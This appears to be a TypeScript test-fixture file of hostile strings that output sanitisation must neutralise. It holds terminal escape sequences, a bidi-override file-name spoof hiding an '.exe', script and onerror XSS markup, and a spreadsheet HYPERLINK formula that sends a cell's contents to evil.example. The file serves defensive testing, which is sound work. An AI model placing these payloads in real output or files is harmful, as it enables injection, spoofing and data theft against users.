// Strings a remote machine could put in a result, and what no output may pass on raw.

/** Anything a terminal, an editor or a bidi-aware viewer would act on (newline and tab are text). */
export const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

/** Set the window title, clear the screen, colour; then a one-character C1 CSI. */
export const TERMINAL_SEQUENCES = '\x1b]0;pwned\x07\x1b[2J\x1b[31mred\u009b0m';
export const NUL_BYTE = 'nul\u0000byte';
/** Reads as "gnp.exe." written right to left: a file name that lies about its type. */
export const BIDI_OVERRIDE = 'gnp.\u202eexe.\u202c';
export const MARKUP = '<script>alert(1)</script><img src=x onerror=alert(2)>';
export const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';
